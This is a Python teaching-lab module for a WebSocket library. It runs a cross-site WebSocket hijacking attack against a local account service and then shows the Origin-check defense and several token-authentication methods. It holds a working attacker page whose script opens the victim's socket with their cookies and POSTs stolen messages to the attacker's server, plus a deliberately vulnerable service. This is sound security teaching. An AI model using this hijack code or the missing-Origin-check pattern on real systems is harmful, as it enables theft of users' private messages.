"""Notebook 15's security lab: an account service, an attacker's page, and a real browser.

Cross-site WebSocket hijacking, for real, on 127.0.0.1:

- :class:`AccountService` is a tiny web service: a site (``http://127.0.0.1:SITE``) whose
  ``/login?user=alice`` sets a session cookie (``SameSite=Lax; HttpOnly``), and a
  :func:`wslib.serve` WebSocket (``ws://127.0.0.1:WS/inbox``) that pushes the logged-in user's
  private messages. Cookies are per *host*, not per port: the browser sends the site's cookie to
  the WebSocket port too.
- :class:`AttackerSite` serves a page from ``http://127.0.0.1:EVIL``: another **origin** (another
  port), but the same **site** (same scheme and host), so a ``SameSite=Lax`` cookie still goes
  with its requests. Its JavaScript opens the victim's WebSocket and sends everything it receives
  to the attacker's own server (``POST /collect``): :attr:`AttackerSite.stolen`.
- :func:`hijack` logs alice in with headless Chromium, then visits the attacker's page, and
  reports what was stolen, with a screenshot. Without an Origin check the attack reads alice's
  messages; with ``check_origin=True`` the WebSocket answers 403 and the page gets nothing.
  :func:`hijack_without_browser` sends the very same requests with websocket-client (which can
  send any Origin), for a machine without Chromium.

The WebSocket can authenticate its user four ways (``auth=``), compared in notebook 15:
``"cookie"`` (the session cookie, and the Origin check that makes it safe), ``"query"`` (a token
in the URL: ``/inbox?token=...``, which lands in every access log), ``"first-message"`` (the
first message must be ``{"token": ...}`` within ``token_deadline`` seconds) and ``"subprotocol"``
(the token smuggled in ``Sec-WebSocket-Protocol``, the only header a browser lets JavaScript set:
``new WebSocket(url, ["inbox", "token.<TOKEN>"])``). The inbox page of the site uses the chosen
way; the token is put in that page by the site, which only a page of the site can read.
"""

from __future__ import annotations

import contextlib
import html
import http.server
import json
import secrets
import threading
import time
import urllib.parse
from pathlib import Path
from types import TracebackType
from typing import Any

from ..sync.server import Server, ServerConnection, serve
from .browser import chromium_driver, wait_until
from .scenario import Scenario

__all__ = [
    "AUTH_MODES",
    "PRIVATE_MESSAGES",
    "SCENARIOS",
    "AccountService",
    "AttackerSite",
    "compare_auth",
    "hijack",
    "hijack_capture",
    "hijack_without_browser",
    "inbox_in_browser",
    "security_runs",
    "silent_client",
    "subprotocol_breakage",
]

#: The ways the WebSocket can tell who its user is.
AUTH_MODES = ("cookie", "query", "first-message", "subprotocol")

#: What each user's inbox holds: the secrets the attacker is after.
PRIVATE_MESSAGES = {
    "alice": [
        "Your one-time login code is 493 027",
        "Dr. Lee: your test results are ready",
        "Rent paid: 1,250.00 to Oak Street Lettings",
    ],
}

COOKIE = "session"


class _Site:
    """A plain HTTP server on 127.0.0.1 in a thread; :meth:`respond` makes each answer."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.port = 0
        self._server: http.server.ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None
        self.requests: list[tuple[str, str, dict[str, str]]] = []  # method, path, headers

    def respond(self, method: str, path: str, headers: dict[str, str], body: bytes) -> Any:
        raise NotImplementedError

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> None:
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self, method: str) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(min(length, 65536)) if length else b""
                headers = {k: v for k, v in self.headers.items()}
                site.requests.append((method, self.path, headers))
                status, extra, content = site.respond(method, self.path, headers, body)
                data = content.encode()
                self.send_response(status)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.send_header("Cache-Control", "no-store")
                for name, value in extra:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                self._answer("GET")

            def do_POST(self) -> None:
                self._answer("POST")

            def log_message(self, format: str, *args: Any) -> None:
                pass  # the notebook shows self.requests instead

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            kwargs={"poll_interval": 0.1},
            name=f"wslib-lab-{self.name}",
            daemon=True,
        )
        self._thread.start()

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None
        if self._thread is not None:
            self._thread.join(5)


_INBOX_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Inbox of {user}</title>
<style>body {{ font: 16px system-ui, sans-serif; margin: 2rem; }}
li {{ padding: .2rem 0; }} #status {{ color: #0072B2; }}</style></head>
<body><h1>Inbox of {user}</h1><p id="status">connecting…</p><ul id="inbox"></ul>
<script>
const TOKEN = {token};  // written here by the site: only a page of this origin can read it
const base = "ws://127.0.0.1:{ws_port}/inbox";
let socket;
try {{
  if ({auth!r} === "query") socket = new WebSocket(base + "?token=" + TOKEN);
  else if ({auth!r} === "subprotocol") socket = new WebSocket(base, ["inbox", "token." + TOKEN]);
  else socket = new WebSocket(base);
}} catch (error) {{
  document.getElementById("status").textContent = "refused by the browser: " + error.name;
}}
if (socket) {{
  socket.onopen = () => {{
    document.getElementById("status").textContent = "connected";
    if ({auth!r} === "first-message") socket.send(JSON.stringify({{token: TOKEN}}));
  }};
  socket.onmessage = (event) => {{
    const li = document.createElement("li");
    li.textContent = event.data;
    document.getElementById("inbox").append(li);
  }};
  socket.onclose = (event) => {{
    document.getElementById("status").textContent = "closed " + event.code;
  }};
}}
</script></body></html>
"""


class AccountService:
    """The victim: a site with a login, and a WebSocket pushing the user's private messages.

    - ``check_origin``: the WebSocket accepts only pages of the site (``origins=[site]``).
    - ``auth``: how the WebSocket authenticates (:data:`AUTH_MODES`).
    - ``token_deadline``: seconds to wait for the token in ``"first-message"`` mode.
    - ``listen_port``: the WebSocket server's port (0: a free one; give one to capture it from
      the start). Set :attr:`public_port` to make the pages connect elsewhere (nginx in front).

    A context manager. :attr:`trace` has the WebSocket server's trace lines (what a server log
    keeps), :attr:`handshakes` every handshake the WebSocket handler saw (path, Origin, user).
    """

    def __init__(
        self,
        *,
        check_origin: bool = False,
        auth: str = "cookie",
        token_deadline: float = 2.0,
        listen_port: int = 0,
    ) -> None:
        if auth not in AUTH_MODES:
            raise ValueError(f"auth must be one of {AUTH_MODES}, not {auth!r}")
        self.check_origin = check_origin
        self.auth = auth
        self.token_deadline = token_deadline
        self.sessions: dict[str, str] = {}  # cookie value -> user
        self.tokens: dict[str, str] = {}  # token -> user
        self.trace: list[str] = []
        self.handshakes: list[dict[str, Any]] = []
        self.site = _Site("account-site")
        self.site.respond = self._respond  # type: ignore[method-assign]
        self.server: Server | None = None
        self.listen_port = listen_port
        #: Where the pages open the WebSocket, if not the server itself (nginx in front, say).
        self.public_port: int | None = None

    # --- the site -----------------------------------------------------------------------------

    def login_url(self, user: str = "alice") -> str:
        return f"{self.site.origin}/login?user={urllib.parse.quote(user)}"

    @property
    def inbox_url(self) -> str:
        return f"{self.site.origin}/inbox"

    @property
    def ws_port(self) -> int:
        assert self.server is not None
        return self.public_port or self.server.port

    @property
    def ws_url(self) -> str:
        return f"ws://127.0.0.1:{self.ws_port}/inbox"

    def login(self, user: str = "alice") -> str:
        """Open a session for ``user`` (as the login page does); returns the cookie value."""
        session = secrets.token_urlsafe(16)
        self.sessions[session] = user
        return session

    def token_for(self, user: str) -> str:
        token = secrets.token_urlsafe(16)
        self.tokens[token] = user
        return token

    def _user(self, headers: dict[str, str]) -> str | None:
        cookies = headers.get("Cookie", "")
        for part in cookies.split(";"):
            name, _, value = part.strip().partition("=")
            if name == COOKIE and value in self.sessions:
                return self.sessions[value]
        return None

    def _respond(
        self, method: str, path: str, headers: dict[str, str], body: bytes
    ) -> tuple[int, list[tuple[str, str]], str]:
        url = urllib.parse.urlsplit(path)
        query = urllib.parse.parse_qs(url.query)
        if url.path == "/login":
            user = query.get("user", ["alice"])[0]
            session = self.login(user)
            # SameSite=Lax: sent with same-site requests (another port of 127.0.0.1 included),
            # not with cross-site subrequests. HttpOnly: JavaScript cannot read it.
            cookie = f"{COOKIE}={session}; Path=/; HttpOnly; SameSite=Lax"
            page = f"<p>Logged in as {html.escape(user)}. <a href='/inbox'>Inbox</a></p>"
            return 200, [("Set-Cookie", cookie)], page
        if url.path == "/inbox":
            reader = self._user(headers)
            if reader is None:
                return 403, [], "<p>Log in first: <a href='/login'>/login</a></p>"
            token = self.token_for(reader) if self.auth != "cookie" else ""
            page = _INBOX_PAGE.format(
                user=html.escape(reader),
                token=json.dumps(token),
                ws_port=self.ws_port,
                auth=self.auth,
            )
            return 200, [], page
        return 404, [], "<p>Not found</p>"

    # --- the WebSocket ------------------------------------------------------------------------

    def _authenticate(self, conn: ServerConnection) -> str | None:
        headers = dict(conn.request_headers.items())
        if self.auth == "cookie":
            return self._user(headers)
        if self.auth == "query":
            query = urllib.parse.parse_qs(urllib.parse.urlsplit(conn.path).query)
            return self.tokens.get(query.get("token", [""])[0])
        if self.auth == "subprotocol":
            offered = conn.request_headers.get("Sec-WebSocket-Protocol") or ""
            for offer in offered.split(","):
                offer = offer.strip()
                if offer.startswith("token."):
                    return self.tokens.get(offer.removeprefix("token."))
            return None
        # first-message: the token must come first, and soon (a silent client holds a
        # connection and a thread: the deadline bounds what it costs).
        try:
            first = conn.recv(timeout=self.token_deadline)
        except TimeoutError:
            conn.close(1008, "no token within the deadline")
            return None
        try:
            token = json.loads(first)["token"]
        except (ValueError, KeyError, TypeError):
            return None
        return self.tokens.get(token) if isinstance(token, str) else None

    def _handler(self, conn: ServerConnection) -> None:
        user = self._authenticate(conn)
        self.handshakes.append(
            {"path": conn.path, "origin": conn.request_headers.get("Origin"), "user": user}
        )
        if user is None:
            conn.close(1008, "log in first")
            return
        for message in PRIVATE_MESSAGES.get(user, []):
            conn.send(message)
        for _ in conn:  # keep it open until the page goes away
            pass

    def start(self) -> None:
        self.site.start()
        origins = [self.site.origin] if self.check_origin else None
        self.server = serve(
            self._handler,
            port=self.listen_port,
            origins=origins,
            subprotocols=["inbox"],
            trace=self.trace.append,
            ping_interval=None,
        )

    def stop(self) -> None:
        if self.server is not None:
            self.server.close()
        self.site.stop()

    def __enter__(self) -> AccountService:
        self.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()


_EVIL_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Free kittens!</title>
<style>body {{ font: 16px system-ui, sans-serif; margin: 2rem; }}
#stolen li {{ color: #D55E00; }}</style></head>
<body><h1>Free kittens!</h1>
<p>(This page is on <code>{origin}</code>. While you look at kittens, its script opens
<code>{target}</code> with <em>your</em> cookies.)</p>
<p id="status">connecting…</p>
<h2>What this page read from your inbox</h2><ul id="stolen"></ul>
<script>
const socket = new WebSocket("{target}");
socket.onopen = () => {{ document.getElementById("status").textContent = "open"; }};
socket.onmessage = (event) => {{
  const li = document.createElement("li");
  li.textContent = event.data;
  document.getElementById("stolen").append(li);
  fetch("/collect", {{method: "POST", body: event.data}});   // off to the attacker
}};
socket.onerror = () => {{ document.getElementById("status").textContent = "refused"; }};
socket.onclose = (event) => {{
  const status = document.getElementById("status");
  status.textContent += " (closed " + event.code + ")";
  status.dataset.done = "yes";
}};
</script></body></html>
"""


class AttackerSite:
    """The attacker's page on another port of 127.0.0.1, and the server it exfiltrates to.

    :attr:`stolen` lists what the page POSTed to ``/collect``: the victim's messages, if the
    attack worked.
    """

    def __init__(self, target: str) -> None:
        self.target = target
        self.stolen: list[str] = []
        self.site = _Site("attacker-site")
        self.site.respond = self._respond  # type: ignore[method-assign]

    @property
    def url(self) -> str:
        return f"{self.site.origin}/"

    def _respond(
        self, method: str, path: str, headers: dict[str, str], body: bytes
    ) -> tuple[int, list[tuple[str, str]], str]:
        if method == "POST" and path == "/collect":
            self.stolen.append(body.decode("utf-8", "replace"))
            return 200, [], "thanks"
        page = _EVIL_PAGE.format(origin=self.site.origin, target=self.target)
        return 200, [], page

    def __enter__(self) -> AttackerSite:
        self.site.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.site.stop()


def hijack(
    driver: Any,
    *,
    check_origin: bool,
    screenshot: Path | None = None,
    timeout: float = 10,
    listen_port: int = 0,
) -> dict[str, Any]:
    """Alice logs in (in ``driver``, a Selenium Chromium), then visits the attacker's page.

    Returns ``{"stolen": [...] (what reached the attacker's server), "status": the page's
    status line, "handshakes": what the WebSocket handler saw, "trace": the server's trace,
    "origins": {"site": ..., "attacker": ...}}``; writes a screenshot of the attacker's page to
    ``screenshot`` if given.
    """
    from selenium.webdriver.common.by import By

    with AccountService(check_origin=check_origin, listen_port=listen_port) as account:
        with AttackerSite(account.ws_url) as evil:
            driver.get(account.login_url("alice"))
            wait_until(lambda: bool(account.sessions), timeout, "alice did not log in")
            driver.get(evil.url)

            def finished() -> bool:
                status = driver.find_element(By.ID, "status")
                if status.get_attribute("data-done"):
                    return True
                # open and every message read (and sent on): the attack has done its work
                expected = len(PRIVATE_MESSAGES["alice"])
                return status.text == "open" and len(evil.stolen) >= expected

            wait_until(finished, timeout, "the attacker's page did not finish")
            status = driver.find_element(By.ID, "status").text
            if screenshot is not None:
                driver.save_screenshot(str(screenshot))
            driver.get("about:blank")  # leave the page: its WebSocket closes
            stolen = list(evil.stolen)
        return {
            "stolen": stolen,
            "status": status,
            "handshakes": list(account.handshakes),
            "trace": [line for line in account.trace if " GET " in line or " HTTP/1.1 " in line],
            "origins": {"site": account.site.origin, "attacker": evil.site.origin},
        }


def hijack_without_browser(*, check_origin: bool) -> dict[str, Any]:
    """The requests of :func:`hijack`, made with websocket-client: a session cookie obtained by
    logging in, then a WebSocket handshake with the attacker page's ``Origin`` and the cookie,
    as the browser sends them. Returns ``{"status": 101 or the refusal's status, "stolen":
    [...], "origins": ...}``."""
    import urllib.request

    import websocket  # websocket-client

    with AccountService(check_origin=check_origin) as account, AttackerSite(account.ws_url) as evil:
        with contextlib.closing(urllib.request.urlopen(account.login_url("alice"), timeout=5)) as r:
            cookie = r.headers["Set-Cookie"].split(";", 1)[0]
        stolen: list[str] = []
        try:
            ws = websocket.create_connection(
                account.ws_url, timeout=5, origin=evil.site.origin, cookie=cookie
            )
        except websocket.WebSocketBadStatusException as exc:
            status = exc.status_code
        else:
            status = 101
            with contextlib.closing(ws):
                for _ in PRIVATE_MESSAGES["alice"]:
                    message = ws.recv()
                    stolen.append(message if isinstance(message, str) else message.decode())
        return {
            "status": status,
            "stolen": stolen,
            "origins": {"site": account.site.origin, "attacker": evil.site.origin},
        }


# --- what notebook 15 measures, live and for its recordings --------------------------------------


def hijack_capture(driver: Any, *, check_origin: bool = False) -> tuple[dict[str, Any], Any]:
    """:func:`hijack` with the WebSocket port captured from the start: (result, capture)."""
    from .capture import capture
    from .proxy import free_port

    port = free_port()
    with capture([port], timeout=30, grace=0.3) as cap:
        result = hijack(driver, check_origin=check_origin, listen_port=port)
    return result, cap


def inbox_in_browser(driver: Any, account: AccountService, timeout: float = 10) -> dict[str, Any]:
    """Alice logs in and opens her inbox page: what the page showed, and its status line."""
    from selenium.webdriver.common.by import By

    driver.get(account.login_url("alice"))
    driver.get(account.inbox_url)
    expected = len(PRIVATE_MESSAGES["alice"])

    def shown() -> list[str]:
        return [li.text for li in driver.find_elements(By.CSS_SELECTOR, "#inbox li")]

    with contextlib.suppress(TimeoutError):
        wait_until(lambda: len(shown()) >= expected, timeout, "the inbox did not fill")
    result = {"messages": shown(), "status": driver.find_element(By.ID, "status").text}
    driver.get("about:blank")
    return result


def compare_auth(driver: Any, *, through_nginx: bool = True) -> dict[str, dict[str, Any]]:
    """Each way to authenticate (:data:`AUTH_MODES`), end to end in the browser, the pages
    connecting through nginx when it is installed: does alice see her inbox, does her secret
    (cookie or token) end up in the WebSocket server's trace, in nginx's access log?"""
    from .proxy import Nginx
    from .tools import nginx

    results: dict[str, dict[str, Any]] = {}
    use_nginx = through_nginx and bool(nginx())
    for auth in AUTH_MODES:
        with AccountService(check_origin=True, auth=auth) as account:
            assert account.server is not None
            proxy = Nginx(account.server.port, location="/inbox") if use_nginx else None
            with proxy if proxy is not None else contextlib.nullcontext():
                if proxy is not None:
                    account.public_port = proxy.port
                seen = inbox_in_browser(driver, account)
                access_log = proxy.access_log() if proxy is not None else None
            secrets_ = list(account.sessions) + list(account.tokens)
            secret = list(account.tokens)[-1] if account.tokens else list(account.sessions)[-1]
            results[auth] = {
                "works": seen["messages"] == PRIVATE_MESSAGES["alice"],
                "status": seen["status"],
                "in server trace": any(s in line for s in secrets_ for line in account.trace),
                "in nginx access log": None
                if access_log is None
                else any(s in access_log for s in secrets_),
                "access log line": None
                if access_log is None
                else next((ln for ln in access_log.splitlines() if "/inbox" in ln), ""),
                "secret": secret[:6] + "…",
            }
    return results


def silent_client(deadline: float = 1.0) -> dict[str, Any]:
    """A client that connects in ``first-message`` mode and never sends its token: when and
    how the server closes it."""
    import struct

    import websocket  # websocket-client

    with AccountService(auth="first-message", token_deadline=deadline) as account:
        ws = websocket.create_connection(account.ws_url, timeout=deadline + 5)
        start = time.monotonic()
        with contextlib.closing(ws):
            while True:
                opcode, frame = ws.recv_data_frame(True)
                if opcode == websocket.ABNF.OPCODE_CLOSE:
                    break
        code = struct.unpack("!H", frame.data[:2])[0]
        return {
            "deadline": deadline,
            "closed after": round(time.monotonic() - start, 3),
            "code": code,
            "reason": frame.data[2:].decode("utf-8", "replace"),
        }


def subprotocol_breakage(driver: Any) -> dict[str, Any]:
    """What a token in ``Sec-WebSocket-Protocol`` breaks, asked of the browser itself."""
    with AccountService(auth="subprotocol") as account:
        driver.get(account.login_url("alice"))
        syntax = driver.execute_script(
            "try { new WebSocket(arguments[0], ['inbox', 'token.abc+/==']); return 'accepted'; }"
            " catch (e) { return e.name + ': ' + e.message; }",
            account.ws_url,
        )
        alone = driver.execute_async_script(
            "const done = arguments[arguments.length - 1];"
            "const ws = new WebSocket(arguments[0], ['token.abc']);"
            "ws.onopen = () => done('open'); ws.onclose = (e) => done(e.code);",
            account.ws_url,
        )
        driver.get("about:blank")
        return {"base64 token": syntax, "token offered alone": alone}


def security_runs() -> dict[str, Any]:
    """Everything notebook 15 shows live, for its offline path (``security-runs.json``): the
    hijack without and with the Origin check (with the attacker page's screenshot, as base64
    PNG), the four ways to authenticate, the silent client, the subprotocol's limits."""
    import base64
    import tempfile

    with chromium_driver() as driver, tempfile.TemporaryDirectory() as folder:
        shot = Path(folder) / "attack.png"
        attack = hijack(driver, check_origin=False, screenshot=shot)
        defended = hijack(driver, check_origin=True)
        attack["screenshot"] = base64.b64encode(shot.read_bytes()).decode()
        return {
            "attack": attack,
            "defended": defended,
            "auth": compare_auth(driver),
            "silent client": silent_client(),
            "subprotocol": subprotocol_breakage(driver),
        }


def _hijack_handshake() -> Any:
    with chromium_driver() as driver:
        _result, cap = hijack_capture(driver)
    return cap


#: This module's shipped recordings, for :mod:`wslib.lab.recordings`.
SCENARIOS = {
    "hijack-handshake": Scenario(
        "hijack-handshake",
        "Cross-site WebSocket hijacking: headless Chromium, logged in on one port of 127.0.0.1, "
        "visits an attacker's page on another port, whose script opens the account's WebSocket: "
        "the handshake carries the attacker's `Origin` and the victim's session cookie, the "
        "server (no Origin check) answers 101 and pushes three private messages.",
        "`wslib.lab.security.hijack_capture()`: Chromium (Selenium) → `wslib.serve` inbox, "
        "pages from two `http.server`s",
        _hijack_handshake,
        seconds=4,
    ),
    "security-runs": Scenario(
        "security-runs",
        "Notebook 15's live results: the hijack without and with the Origin check (stolen "
        "messages, the attacker page's screenshot as base64 PNG), the four ways to "
        "authenticate in the browser through nginx (works? secret in the server trace, in "
        "nginx's access log?), a client that never sends its token, a token in "
        "`Sec-WebSocket-Protocol`.",
        "`wslib.lab.security.security_runs()`: headless Chromium, `wslib.serve`, nginx",
        security_runs,
        seconds=15,
        suffix=".json",
    ),
}
